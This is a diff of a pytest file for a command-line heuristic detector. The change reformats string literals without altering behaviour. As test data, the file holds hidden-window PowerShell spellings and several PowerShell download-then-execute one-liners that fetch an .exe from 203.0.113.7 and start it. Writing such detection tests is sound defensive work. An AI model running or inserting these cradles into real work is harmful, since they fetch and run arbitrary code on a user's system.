@@ -29,7 +29,7 @@ RUN_KEY = "heur.commands.run_key_script_host"
 @pytest.mark.parametrize("spelling", ["-w hidden", "-WindowStyle Hidden", "-win h", "-wINdowsTYLe 1", "/w 1"])
 def test_a_hidden_powershell_is_one_thing_in_every_spelling(spelling: str) -> None:
     assert HIDDEN in ids(f"powershell.exe -nop {spelling} -c Get-Date", CMD)
-    assert HIDDEN in ids(f"Start-Process powershell -ArgumentList 'x' -WindowStyle Hidden", PS)
+    assert HIDDEN in ids("Start-Process powershell -ArgumentList 'x' -WindowStyle Hidden", PS)
 
 
 def test_a_visible_powershell_is_not_hidden() -> None:
@@ -38,12 +38,12 @@ def test_a_visible_powershell_is_not_hidden() -> None:
 
 
 @pytest.mark.parametrize("script", [
-    '(New-Object System.Net.WebClient).DownloadFile("http://203.0.113.7/a.exe","$env:TEMP\\a.exe"); '
-    'Start-Process "$env:TEMP\\a.exe"',
+    ('(New-Object System.Net.WebClient).DownloadFile("http://203.0.113.7/a.exe","$env:TEMP\\a.exe"); '
+    'Start-Process "$env:TEMP\\a.exe"'),
     "Invoke-WebRequest http://203.0.113.7/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe",
     '$u = "http://203.0.113.7/x.exe"\n$o = "$env:TEMP\\x.exe"\niwr -Uri $u -OutFile $o\n& $o',
-    "Start-BitsTransfer -Source http://203.0.113.7/x.exe -Destination C:\\Users\\Public\\x.exe\n"
-    "saps C:\\Users\\Public\\x.exe",
+    ("Start-BitsTransfer -Source http://203.0.113.7/x.exe -Destination C:\\Users\\Public\\x.exe\n"
+    "saps C:\\Users\\Public\\x.exe"),
 ])
 def test_powershell_download_then_start_of_the_same_file_from_an_ip_is_suspicious(script: str) -> None:
     assert {DOWNLOAD_RUN, DOWNLOAD_RUN_IP} <= ids(script, PS)
